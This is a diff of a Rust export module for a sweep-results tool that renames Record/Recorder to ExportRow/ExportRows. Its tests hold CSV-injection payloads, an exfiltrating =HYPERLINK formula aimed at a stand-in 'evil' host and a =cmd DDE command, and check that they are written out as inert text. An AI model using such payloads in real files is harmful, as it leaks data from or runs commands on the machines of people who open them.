@@ -1,5 +1,5 @@
 //! Task results as exports write them (`ksweep export`, the dashboard's
-//! downloads): one typed record per task, the same columns in CSV, JSON
+//! downloads): one typed row per task, the same columns in CSV, JSON
 //! lines and Parquet (documented in docs/export.md), booleans as
 //! `true`/`false` everywhere.
 
@@ -41,14 +41,14 @@ pub const COLUMNS: [&str; 20] = [
 
 /// One task's result.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
-pub struct Record {
+pub struct ExportRow {
     /// The id of the sweep exported.
     pub sweep: String,
     /// The move set's name: a rule `3,2`, a grid's label, or an unlabelled
     /// explicit list.
     pub rule: String,
-    /// The move list (`3,2`, or `3,2,0 -3,2,0 ..`), on the first record of
-    /// each configuration only ([`Recorder`]): a long list is written once,
+    /// The move list (`3,2`, or `3,2,0 -3,2,0 ..`), on the first row of
+    /// each configuration only ([`ExportRows`]): a long list is written once,
     /// not in every row.
     pub moves: Option<String>,
     pub dims: u32,
@@ -81,26 +81,26 @@ pub struct Record {
 }
 
 /// Turns one sweep's result rows, in export order (by configuration),
-/// into records: each carries the sweep's id and state, and the first of
+/// into export rows: each carries the sweep's id and state, and the first of
 /// each configuration its move list.
-pub struct Recorder {
+pub struct ExportRows {
     sweep: String,
     state: String,
     /// Each configuration's move list and board sides, by index.
     boards: Vec<(String, Vec<u32>)>,
-    /// The configuration of the last record.
+    /// The configuration of the last row.
     last: Option<u32>,
 }
 
-impl Recorder {
-    /// A recorder for `sweep` (its id `sweep_id`), exported while it is `state`.
-    pub fn new(sweep: &Sweep, sweep_id: &str, state: &str) -> Recorder {
+impl ExportRows {
+    /// A exporter for `sweep` (its id `sweep_id`), exported while it is `state`.
+    pub fn new(sweep: &Sweep, sweep_id: &str, state: &str) -> ExportRows {
         let boards = sweep.configurations().iter().map(|c| (c.moves_list(), c.sides.clone())).collect();
-        Recorder { sweep: sweep_id.to_string(), state: state.to_string(), boards, last: None }
+        ExportRows { sweep: sweep_id.to_string(), state: state.to_string(), boards, last: None }
     }
 
-    /// The record of the next row.
-    pub fn record(&mut self, r: ResultRow) -> Record {
+    /// The export row of the next stored row.
+    pub fn row(&mut self, r: ResultRow) -> ExportRow {
         let first = self.last != Some(r.config);
         self.last = Some(r.config);
         // The sides from the sweep's configuration, not the row's `8x8` label.
@@ -108,18 +108,18 @@ impl Recorder {
             Some((moves, sides)) => (first.then(|| moves.clone()), sides.clone()),
             None => (None, Vec::new()),
         };
-        Record::new(r, &self.sweep, &self.state, moves, shape)
+        ExportRow::new(r, &self.sweep, &self.state, moves, shape)
     }
 }
 
-impl Record {
-    /// The record of a stored row of sweep `sweep` on a board of sides
+impl ExportRow {
+    /// The export row of a stored row of sweep `sweep` on a board of sides
     /// `shape`, exported while it is `state`, with the move list where it is
     /// the configuration's first.
-    fn new(r: ResultRow, sweep: &str, state: &str, moves: Option<String>, shape: Vec<u32>) -> Record {
+    fn new(r: ResultRow, sweep: &str, state: &str, moves: Option<String>, shape: Vec<u32>) -> ExportRow {
         let n = shape.first().copied().filter(|&n| shape.iter().all(|&s| s == n));
         let outcome = r.outcome.map_or("", tour::Outcome::name).to_string();
-        Record {
+        ExportRow {
             sweep: sweep.to_string(),
             rule: r.moves,
             moves,
@@ -150,7 +150,7 @@ fn list(values: &[u32]) -> String {
     serde_json::to_string(values).expect("numbers serialise")
 }
 
-/// Writes CSV: a header, then a line per record, every field through
+/// Writes CSV: a header, then a line per row, every field through
 /// [`csv::field`], so text a user or peer chose (a worker's name, a grid's
 /// label) opens in a spreadsheet as text, never as a formula, while rules,
 /// move lists and numbers stay as they are.
@@ -161,7 +161,7 @@ impl CsvWriter {
         out.write_all(csv::record(COLUMNS).as_bytes())
     }
 
-    pub fn write(r: &Record, out: &mut impl Write) -> std::io::Result<()> {
+    pub fn write(r: &ExportRow, out: &mut impl Write) -> std::io::Result<()> {
         let (dims, n, shape, start) =
             (r.dims.to_string(), r.n.map_or_else(String::new, |n| n.to_string()), list(&r.shape), list(&r.start));
         let (attempts, visited, micros) = (r.attempts.to_string(), r.visited.to_string(), r.micros.to_string());
@@ -192,14 +192,14 @@ impl CsvWriter {
 }
 
 /// Writes one JSON object per line, its keys the columns.
-pub fn write_jsonl(r: &Record, out: &mut impl Write) -> std::io::Result<()> {
+pub fn write_jsonl(r: &ExportRow, out: &mut impl Write) -> std::io::Result<()> {
     // Serialised first, so a closed pipe is an io::Error the CLI recognises.
-    let mut line = serde_json::to_string(r).expect("a record serialises");
+    let mut line = serde_json::to_string(r).expect("an export row serialises");
     line.push('\n');
     out.write_all(line.as_bytes())
 }
 
-/// Writes a Parquet file, a row group per batch of records.
+/// Writes a Parquet file, a row group per batch of rows.
 pub struct ParquetWriter<W: Write + Send> {
     writer: ArrowWriter<W>,
     schema: Arc<Schema>,
@@ -247,8 +247,8 @@ impl<W: Write + Send> ParquetWriter<W> {
         Ok(ParquetWriter { writer, schema })
     }
 
-    /// Writes `records` as one batch.
-    pub fn write(&mut self, records: &[Record]) -> Result<()> {
+    /// Writes `rows` as one batch.
+    pub fn write(&mut self, rows: &[ExportRow]) -> Result<()> {
         let mut sweep = StringBuilder::new();
         let mut rule = StringBuilder::new();
         let mut moves = StringBuilder::new();
@@ -266,7 +266,7 @@ impl<W: Write + Send> ParquetWriter<W> {
         let mut state = StringBuilder::new();
         // Where each result came from: its worker's provenance, its sweep.
         let mut origin: [StringBuilder; 5] = std::array::from_fn(|_| StringBuilder::new());
-        for r in records {
+        for r in rows {
             sweep.append_value(&r.sweep);
             rule.append_value(&r.rule);
             moves.append_option(r.moves.as_deref());
@@ -327,8 +327,8 @@ impl<W: Write + Send> ParquetWriter<W> {
 mod tests {
     use super::*;
 
-    fn record(rule: &str, worker: &str) -> Record {
-        Record {
+    fn export_row(rule: &str, worker: &str) -> ExportRow {
+        ExportRow {
             sweep: "0123456789abcdef".into(),
             rule: rule.into(),
             moves: Some(rule.into()),
@@ -352,7 +352,7 @@ mod tests {
         }
     }
 
-    fn csv_line(r: &Record) -> String {
+    fn csv_line(r: &ExportRow) -> String {
         let mut out = Vec::new();
         CsvWriter::write(r, &mut out).unwrap();
         String::from_utf8(out).unwrap()
@@ -360,22 +360,22 @@ mod tests {
 
     #[test]
     fn a_worker_name_that_is_a_formula_is_written_as_text() {
-        let line = csv_line(&record("2,1", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"));
+        let line = csv_line(&export_row("2,1", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"));
         assert_eq!(
             line,
             "0123456789abcdef,\"2,1\",\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",\
              0.1.0 (abc123),node-1,Some CPU,sse4.1 ssse3,0123456789abcdef,done\n"
         );
         // A worker reports its own host and CPU: guarded the same way.
-        let host = Record { worker_host: "=cmd|' /C calc'!A0".into(), ..record("2,1", "w") };
+        let host = ExportRow { worker_host: "=cmd|' /C calc'!A0".into(), ..export_row("2,1", "w") };
         assert!(csv_line(&host).contains(",'=cmd|' /C calc'!A0,"), "{}", csv_line(&host));
-        assert!(csv_line(&record("2,1", "@cmd")).contains(",'@cmd,"));
-        assert!(csv_line(&record("2,1", "host-1")).contains(",host-1,"), "plain names unchanged");
+        assert!(csv_line(&export_row("2,1", "@cmd")).contains(",'@cmd,"));
+        assert!(csv_line(&export_row("2,1", "host-1")).contains(",host-1,"), "plain names unchanged");
     }
 
     #[test]
     fn a_move_list_starting_with_a_minus_is_kept() {
-        let line = csv_line(&record("-2,1 -1,2 1,2 2,1", "w"));
+        let line = csv_line(&export_row("-2,1 -1,2 1,2 2,1", "w"));
         assert!(line.starts_with("0123456789abcdef,\"-2,1 -1,2 1,2 2,1\",\"-2,1 -1,2 1,2 2,1\",2,"), "{line}");
     }
 
@@ -383,17 +383,17 @@ mod tests {
     /// written as text too.
     #[test]
     fn a_grid_label_that_is_a_formula_is_written_as_text() {
-        let r = Record { moves: None, ..record("=1+1", "w") };
+        let r = ExportRow { moves: None, ..export_row("=1+1", "w") };
         assert!(csv_line(&r).starts_with("0123456789abcdef,'=1+1,,2,"), "{}", csv_line(&r));
     }
 
-    /// The move list goes in the first record of each configuration only.
+    /// The move list goes in the first row of each configuration only.
     #[test]
     fn the_move_list_is_written_once_per_configuration() {
         let spec = "name = \"t\"\nseed = 1\nstarts = 2\nmethods = [\"w\"]\n[[grid]]\n\
                     moves = [[2, 1], [1, 2], [-1, -2], [-2, -1]]\nlabel = \"mine\"\ndims = [2]\nn = [5, 6]\n";
         let sweep = Sweep::parse(spec).unwrap();
-        let mut recorder = Recorder::new(&sweep, "abc", "done");
+        let mut exporter = ExportRows::new(&sweep, "abc", "done");
         let row = |config: u32| ResultRow {
             config,
             moves: "mine".into(),
@@ -414,12 +414,12 @@ mod tests {
             worker_features: String::new(),
             computed_by: "abc".into(),
         };
-        let records: Vec<Record> = [0, 0, 1, 1].into_iter().map(|c| recorder.record(row(c))).collect();
-        let moves: Vec<Option<&str>> = records.iter().map(|r| r.moves.as_deref()).collect();
+        let rows: Vec<ExportRow> = [0, 0, 1, 1].into_iter().map(|c| exporter.row(row(c))).collect();
+        let moves: Vec<Option<&str>> = rows.iter().map(|r| r.moves.as_deref()).collect();
         assert_eq!(moves, [Some("2,1 1,2 -1,-2 -2,-1"), None, Some("2,1 1,2 -1,-2 -2,-1"), None]);
-        assert!(records.iter().all(|r| r.sweep == "abc" && r.rule == "mine"));
+        assert!(rows.iter().all(|r| r.sweep == "abc" && r.rule == "mine"));
         // The sides are the configuration's, whatever the row's label says.
-        let shapes: Vec<(&[u32], Option<u32>)> = records.iter().map(|r| (&r.shape[..], r.n)).collect();
+        let shapes: Vec<(&[u32], Option<u32>)> = rows.iter().map(|r| (&r.shape[..], r.n)).collect();
         assert_eq!(shapes, [(&[5, 5][..], Some(5)), (&[5, 5], Some(5)), (&[6, 6], Some(6)), (&[6, 6], Some(6))]);
     }
 }
